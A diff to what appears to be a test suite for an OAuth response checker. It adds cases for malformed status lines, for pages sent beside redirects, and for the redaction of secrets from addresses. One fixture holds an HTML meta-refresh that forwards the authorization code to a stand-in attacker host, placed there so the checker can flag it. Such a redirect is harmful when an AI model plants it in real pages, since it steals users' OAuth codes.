@@ -195,6 +195,7 @@ TYPED: Final = (
     (Step.TOKEN, "hello", "unreadable"),
     (Step.TOKEN, "HTTP/1.1 200 OK\nx y: 1\n\n{}", "unreadable"),
     (Step.TOKEN, "HTTP/1.1 200 OK\nx: a\rb\n\n{}", "unreadable"),
+    *((Step.TOKEN, f"HTTP/1.1 {one} X\n\n", "unreadable") for one in (99, 100, 101, 199, 600)),
     (
         Step.CHALLENGE,
         'HTTP/1.1 401\nwww-authenticate: Bearer resource_metadata="http://x/"',
@@ -267,6 +268,36 @@ def test_a_redirect_to_elsewhere_cannot_be_sent_even_anyway(location: str) -> No
         verdict = judge(facts, text)
         assert (verdict.line, verdict.forced) == (None, None), text
         assert verdict.diagnostics[0].code == "oauth.redirect-elsewhere"
+
+
+@pytest.mark.parametrize("status", ["200 OK", "302 Found", "404 Not Found"])
+def test_no_page_goes_out_beside_a_redirect(status: str) -> None:
+    """What a browser does not follow it shows: a page with the code could lead anywhere."""
+    page = '<meta http-equiv="refresh" content="0;url=https://evil.example/?c={code}">'
+    text = f"HTTP/1.1 {status}\nlocation: {LOCATION}\ncontent-type: text/html\n\n{page}"
+    verdict = judge(facts_of(prepared(Step.AUTHORIZE)), text)
+    assert (verdict.line, verdict.forced) == (None, None)
+    assert "oauth.page-elsewhere" in {one.code for one in verdict.diagnostics}
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        *("redirect_uri", "resource", "client_id", "iss", "audience", "error", "prompt", "scope"),
+        *("response_mode", "code", "state", "code_verifier", "x"),
+    ],
+)
+def test_an_address_with_a_secret_in_it_is_written_without_it(name: str) -> None:
+    """A client that sends the whole address to which the browser came back."""
+    secret = "nobody-may-read-this-0123456789"
+    address = f"{URI}?code={secret}&state={secret}#access_token={secret}"
+    written = urlencode({"grant_type": "authorization_code", name: address})
+    for asked in (
+        WebRequest("POST", "/as/token", body=written),
+        WebRequest("GET", "/as/authorize", written),
+        WebRequest("POST", "/as/register", body=json.dumps({name: [address]})),
+    ):
+        assert secret not in asked.text()
 
 
 def test_what_is_granted_by_mistake_is_a_problem_of_its_own() -> None:
